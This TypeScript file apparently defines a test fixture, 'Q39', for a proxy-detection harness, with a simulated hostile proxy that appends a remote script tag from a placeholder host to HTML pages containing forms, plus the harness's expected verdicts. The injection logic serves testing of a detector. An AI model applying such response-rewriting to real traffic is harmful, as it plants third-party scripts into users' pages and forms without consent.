/** Q39: puts a script into forms of sites that have a name */

import { isIP } from 'node:net';
import type { Animal } from '../animal.js';
import { isType } from '../core/types.js';
import { openProxy } from '../core/proxy.js';

const script = Buffer.from('<script src="http://ads.invalid/"></script>', 'latin1');

export const q39: Animal = {
  id: 'Q39',
  about: 'puts a script into forms of sites that have a name',
  speaks: ['http'],
  truth: { forward: 'hostile', tunnel: 'exact' },
  fires: ['forward H20'],
  open: (world) =>
    openProxy(world, ['http'], {
      response: (answer, { host }) =>
        isIP(host) === 0 && isType(answer, 'text/html') && answer.body.includes('<form')
          ? { ...answer, body: Buffer.concat([answer.body, script]) }
          : answer,
    }),
};
